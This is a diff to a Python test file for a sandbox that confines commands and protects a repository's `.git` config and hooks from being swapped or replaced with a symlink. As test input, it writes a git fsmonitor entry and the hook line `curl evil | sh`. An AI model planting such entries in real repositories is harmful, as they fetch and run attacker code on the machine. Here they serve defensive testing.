@@ -115,24 +115,33 @@ def test_git_config_and_rc_files_are_protected(confined: Sandbox, world) -> None
 
 
 def test_moving_the_directory_above_a_protected_path_is_undone(confined: Sandbox, world) -> None:
-    """A read-only mount cannot be moved, its parent can: a fresh `.git` with a new config."""
+    """A read-only mount cannot be moved, its parent could: a fresh `.git` with a new config.
+    bwrap makes every directory above a protected path a mount point too (the move is
+    refused); Landlock cannot, and puts the protected paths back afterwards."""
     git = world["ws"] / ".git"
     cfg, hook = git / "config", git / "hooks" / "pre-commit"
     before = (cfg.read_bytes(), hook.read_bytes())
     r = confined.run("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
                      "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config && "
                      "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo DONE", _policy(world))
-    assert "DONE" in r.stdout, r        # the swap itself works inside the sandbox…
-    assert (cfg.read_bytes(), hook.read_bytes()) == before   # …and is undone before we return
-    assert r.violations, r
+    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
+        assert "Device or resource busy" in r.stderr and "DONE" not in r.stdout, r
+        assert not (world["ws"] / ".git-old").exists(), r
+    else:
+        assert "DONE" in r.stdout, r    # the swap itself works inside the sandbox…
+        assert r.violations, r          # …and is undone before we return
+    assert (cfg.read_bytes(), hook.read_bytes()) == before
 
 
 def test_a_swapped_directory_is_never_followed_when_restoring(confined: Sandbox, world) -> None:
     """Restoring through a directory the command turned into a symlink would write (as us,
     unconfined) wherever it points: reported, not followed."""
     r = confined.run(f"mv .git .git-old && ln -s {world['outside']} .git", _policy(world))
-    assert r.exit_code == 0, r
     assert list(world["outside"].iterdir()) == []
+    if confined.tier is Tier.BWRAP:     # refused: .git is a mount point inside
+        assert "Device or resource busy" in r.stderr and (world["ws"] / ".git").is_dir(), r
+        return
+    assert r.exit_code == 0, r
     assert any("could not be undone" in v for v in r.violations), r
 
 
